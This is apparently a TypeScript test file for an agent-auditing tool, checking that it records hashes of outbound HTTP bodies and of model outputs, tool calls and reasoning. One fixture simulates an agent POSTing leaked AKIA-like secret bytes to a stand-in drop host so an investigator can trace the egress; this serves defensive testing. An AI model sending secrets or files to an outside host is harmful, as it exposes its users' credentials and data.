import { test } from 'node:test';
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { d, exec, harness, httpExchange, llmExchange } from './scenario.js';

const sha = (b: string | Buffer) => `sha256:${createHash('sha256').update(b).digest('hex')}`;

test('an HTTP egress carries request_hash (the bytes that left) and response_hash separately', () => {
  const secret = 'AKIA-like exact bytes of a leaked file\nline 2\n';
  const { b, byType } = harness();
  b.onRaw(exec(400, 1, 1, '/usr/bin/node', ['node', 'agent.js']));
  b.onExchange(httpExchange(400, 10, 5, { method: 'POST', path: '/upload', authority: 'drop.example.test', body: secret }, { status: 200, body: '{"ok":true}' }));
  b.flush();
  const e = byType('data.access').find((x) => String(d(x).resource_uri).includes('drop.example.test'));
  assert.ok(e);
  assert.equal(d(e).request_hash, sha(secret), 'an investigator holding the file finds it on the egress');
  assert.equal(d(e).response_hash, sha('{"ok":true}'));
  assert.equal(d(e).content_hash, sha('{"ok":true}'));
});

test('a model output that is only a tool call: output_hash covers the call, never the empty string; reasoning.hash is the thinking or null', () => {
  const { b, byType } = harness();
  b.onRaw(exec(401, 1, 1, '/usr/bin/node', ['node', 'agent.js']));
  b.onExchange(llmExchange(401, 10, 5, { toolsRequested: [{ callId: 'c1', name: 'read_file', arguments: { path: '/tmp/a' }, argumentsText: '{"path": "/tmp/a"}' }] }));
  b.onExchange(llmExchange(401, 30, 5, { provider: 'anthropic', operation: 'messages', outputText: 'done', reasoningText: 'I should read the file first.' }));
  b.flush();
  const [call, text] = byType('model.invocation').map(d);
  assert.ok(call && text);
  assert.notEqual(call.output_hash, sha(''));
  assert.equal(call.output_text_hash, null);
  assert.equal(call.output_hash, sha('{"text":"","tool_calls":[{"arguments":"{\\"path\\": \\"/tmp/a\\"}","name":"read_file"}]}'));
  assert.equal(call.tools_requested[0].arguments_hash, sha('{"path": "/tmp/a"}'), 'over the exact string the API returned');
  assert.equal(call.reasoning.hash, null, 'no reasoning content: null, not the output hash');
  assert.equal(text.output_hash, sha('done'));
  assert.equal(text.output_text_hash, sha('done'));
  assert.equal(text.reasoning.hash, sha('I should read the file first.'));
});
